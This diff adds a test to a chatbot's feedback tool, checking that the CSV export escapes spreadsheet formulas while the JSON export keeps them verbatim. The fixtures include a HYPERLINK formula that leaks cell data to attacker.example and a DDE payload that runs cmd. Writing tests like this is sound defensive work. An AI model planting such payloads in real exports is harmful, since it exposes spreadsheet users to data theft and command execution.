@@ -70,3 +70,18 @@ def test_the_newsbot_command_has_serve_and_feedback() -> None:
 
     result = runner.invoke(app, ["--help"])
     assert result.exit_code == 0 and "serve" in result.stdout and "feedback" in result.stdout
+
+
+def test_csv_export_keeps_formulas_as_text_and_json_keeps_them_verbatim(tmp_path: Path) -> None:
+    store = FeedbackStore(tmp_path / "bot" / "feedback.sqlite3")
+    question = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for sources")'
+    answer_id = store.record_answer(Answer(question, "+cmd|' /C calc'!A0", ()), chat_id=-1001, user_id=6)
+    store.vote(answer_id, user_id=6, vote="up")
+    out = tmp_path / "fb.csv"
+    env = {"NEWSBOT_DATA_DIR": str(tmp_path)}
+    assert runner.invoke(cli(), ["feedback", "--format", "csv", "-o", str(out)], env=env).exit_code == 0
+    (row,) = list(csv.DictReader(io.StringIO(out.read_text())))
+    assert row["question"] == "'" + question and row["answer"] == "'+cmd|' /C calc'!A0"
+    assert row["chat_id"] == "-1001", "numbers stay numbers"
+    exported = runner.invoke(cli(), ["feedback"], env=env)
+    assert json.loads(exported.stdout.splitlines()[0])["question"] == question
